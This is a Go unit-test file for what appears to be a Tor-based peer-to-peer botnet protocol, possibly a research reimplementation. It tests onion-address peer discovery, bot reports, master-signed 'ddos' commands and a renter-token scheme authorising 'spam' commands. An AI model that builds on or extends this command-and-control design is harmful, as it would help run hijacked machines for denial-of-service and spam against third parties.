package core

import (
	"bytes"
	"encoding/hex"
	"testing"
	"testing/quick"
	"time"

	"onionbots/internal/botcrypto"
)

func TestEnvelopeRoundTrip(t *testing.T) {
	e := &Envelope{Type: MsgBroadcast, TTL: 7, Payload: []byte("payload")}
	e.MsgID[3] = 9
	got, err := DecodeEnvelope(e.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if got.Type != e.Type || got.TTL != e.TTL || got.MsgID != e.MsgID ||
		!bytes.Equal(got.Payload, e.Payload) {
		t.Fatalf("round trip mismatch: %+v", got)
	}
}

func TestEnvelopeRejectsTruncated(t *testing.T) {
	e := &Envelope{Type: MsgPing, Payload: []byte("0123456789")}
	raw := e.Encode()
	for _, n := range []int{0, 5, 19, len(raw) - 1} {
		if _, err := DecodeEnvelope(raw[:n]); err == nil {
			t.Fatalf("accepted truncation to %d bytes", n)
		}
	}
}

func TestPayloadRoundTrips(t *testing.T) {
	t.Run("PeerReq", func(t *testing.T) {
		p := &PeerReq{Onion: "abcdefghij234567.onion", Degree: 4}
		got, err := DecodePeerReq(p.Encode())
		if err != nil || *got != *p {
			t.Fatalf("got %+v err %v", got, err)
		}
	})
	t.Run("PeerAck", func(t *testing.T) {
		p := &PeerAck{Accepted: true, Onion: "self.onion", Degree: 3,
			Neighbors: []string{"a.onion", "b.onion"}}
		got, err := DecodePeerAck(p.Encode())
		if err != nil || got.Accepted != p.Accepted || got.Onion != p.Onion ||
			got.Degree != p.Degree || len(got.Neighbors) != 2 ||
			got.Neighbors[0] != "a.onion" {
			t.Fatalf("got %+v err %v", got, err)
		}
	})
	t.Run("NoNUpdate", func(t *testing.T) {
		p := &NoNUpdate{Onion: "me.onion", Degree: 2, Neighbors: []string{"x.onion"}}
		got, err := DecodeNoNUpdate(p.Encode())
		if err != nil || got.Onion != p.Onion || got.Degree != 2 ||
			len(got.Neighbors) != 1 {
			t.Fatalf("got %+v err %v", got, err)
		}
	})
	t.Run("AddrChange", func(t *testing.T) {
		p := &AddrChange{OldOnion: "old.onion", NewOnion: "new.onion"}
		got, err := DecodeAddrChange(p.Encode())
		if err != nil || *got != *p {
			t.Fatalf("got %+v err %v", got, err)
		}
	})
	t.Run("Report", func(t *testing.T) {
		p := &Report{Onion: "bot.onion", SealedKB: []byte{1, 2, 3}}
		got, err := DecodeReport(p.Encode())
		if err != nil || got.Onion != p.Onion || !bytes.Equal(got.SealedKB, p.SealedKB) {
			t.Fatalf("got %+v err %v", got, err)
		}
	})
}

func TestPayloadDecodersRejectGarbage(t *testing.T) {
	garbage := [][]byte{nil, {1}, bytes.Repeat([]byte{0xff}, 5)}
	for _, g := range garbage {
		if _, err := DecodePeerReq(g); err == nil {
			t.Error("PeerReq accepted garbage")
		}
		if _, err := DecodePeerAck(g); err == nil {
			t.Error("PeerAck accepted garbage")
		}
		if _, err := DecodeNoNUpdate(g); err == nil {
			t.Error("NoNUpdate accepted garbage")
		}
		if _, err := DecodeAddrChange(g); err == nil {
			t.Error("AddrChange accepted garbage")
		}
		if _, err := DecodeReport(g); err == nil {
			t.Error("Report accepted garbage")
		}
		if _, err := DecodeCommand(g); err == nil {
			t.Error("Command accepted garbage")
		}
	}
}

func TestEnvelopePropertyRoundTrip(t *testing.T) {
	err := quick.Check(func(typ byte, ttl uint8, id [16]byte, payload []byte) bool {
		if len(payload) > 400 {
			payload = payload[:400]
		}
		e := &Envelope{Type: MsgType(typ), MsgID: id, TTL: ttl, Payload: payload}
		got, err := DecodeEnvelope(e.Encode())
		return err == nil && got.Type == e.Type && got.TTL == e.TTL &&
			got.MsgID == e.MsgID && bytes.Equal(got.Payload, e.Payload)
	}, &quick.Config{MaxCount: 100})
	if err != nil {
		t.Fatal(err)
	}
}

func TestCommandSignVerifyRoundTrip(t *testing.T) {
	drbg := botcrypto.NewDRBG([]byte("cmd test"))
	masterPub, masterPriv, err := ed25519GenerateKey(drbg)
	if err != nil {
		t.Fatal(err)
	}
	now := time.Date(2015, 1, 15, 0, 0, 0, 0, time.UTC)
	cmd := &Command{Name: "ddos", Args: []byte("example.com"), IssuedAt: now}
	cmd.Nonce[0] = 1
	cmd.SignMaster(masterPriv)

	decoded, err := DecodeCommand(cmd.Encode())
	if err != nil {
		t.Fatal(err)
	}
	guard := botcrypto.NewReplayGuard(30 * time.Minute)
	if err := decoded.Authorize(masterPub, now, guard); err != nil {
		t.Fatalf("valid command rejected: %v", err)
	}
	// Replay.
	if err := decoded.Authorize(masterPub, now, guard); err == nil {
		t.Fatal("replayed command accepted")
	}
	// Tampered name.
	bad := *decoded
	bad.Name = "mine"
	if err := bad.Authorize(masterPub, now, nil); err == nil {
		t.Fatal("tampered command accepted")
	}
}

func TestRentedCommandEncodeAuthorize(t *testing.T) {
	drbg := botcrypto.NewDRBG([]byte("rent test"))
	masterPub, masterPriv, err := ed25519GenerateKey(drbg)
	if err != nil {
		t.Fatal(err)
	}
	renterPub, renterPriv, err := ed25519GenerateKey(drbg)
	if err != nil {
		t.Fatal(err)
	}
	now := time.Date(2015, 1, 15, 0, 0, 0, 0, time.UTC)
	token := botcrypto.IssueToken(masterPriv, renterPub, now.Add(time.Hour), []string{"spam"})

	cmd := &Command{Name: "spam", Args: []byte("pills"), IssuedAt: now}
	cmd.Nonce[0] = 2
	cmd.SignRenter(renterPriv, token)

	decoded, err := DecodeCommand(cmd.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if decoded.Rental == nil {
		t.Fatal("token lost in encoding")
	}
	if err := decoded.Authorize(masterPub, now, nil); err != nil {
		t.Fatalf("valid rented command rejected: %v", err)
	}
	// Not whitelisted.
	bad := &Command{Name: "ddos", IssuedAt: now}
	bad.Nonce[0] = 3
	bad.SignRenter(renterPriv, token)
	if err := bad.Authorize(masterPub, now, nil); err == nil {
		t.Fatal("off-whitelist rented command accepted")
	}
	// Expired.
	if err := decoded.Authorize(masterPub, now.Add(2*time.Hour), nil); err == nil {
		t.Fatal("expired rental accepted")
	}
}

func TestPayloadEncodeOneAllocation(t *testing.T) {
	// Each payload encoder sizes its buffer once: the bytes match fixed
	// vectors, fill the buffer exactly, and cost one allocation.
	tests := []struct {
		p    interface{ Encode() []byte }
		want string
	}{
		{&PeerReq{Onion: "abcdefghijklmnop.onion", Degree: 7, ProofNonce: 0x0102030405060708, ProofBits: 12},
			"00166162636465666768696a6b6c6d6e6f702e6f6e696f6e000701020304050607080c"},
		{&PeerAck{Accepted: true, Onion: "peer.onion", Degree: 3, Neighbors: []string{"a.onion", "bb.onion"}, Challenge: []byte{9, 8, 7}, RequiredBits: 5},
			"01000a706565722e6f6e696f6e000300020007612e6f6e696f6e000862622e6f6e696f6e000309080705"},
		{&PeerAck{Onion: "x.onion"}, "000007782e6f6e696f6e00000000000000"},
		{&NoNUpdate{Onion: "n.onion", Degree: 2, Neighbors: []string{"c.onion", "dd.onion"}},
			"00076e2e6f6e696f6e000200020007632e6f6e696f6e000864642e6f6e696f6e"},
		{&AddrChange{OldOnion: "old.onion", NewOnion: "new.onion"}, "00096f6c642e6f6e696f6e00096e65772e6f6e696f6e"},
		{&Report{Onion: "r.onion", SealedKB: []byte{1, 2, 3, 4}}, "0007722e6f6e696f6e000401020304"},
	}
	for _, tt := range tests {
		got := tt.p.Encode()
		if hex.EncodeToString(got) != tt.want {
			t.Errorf("%T.Encode() = %x, want %s", tt.p, got, tt.want)
		}
		if len(got) != cap(got) {
			t.Errorf("%T.Encode() used %d of %d bytes", tt.p, len(got), cap(got))
		}
		if allocs := testing.AllocsPerRun(100, func() { tt.p.Encode() }); allocs != 1 {
			t.Errorf("%T.Encode() allocates %v times, want 1", tt.p, allocs)
		}
	}
}
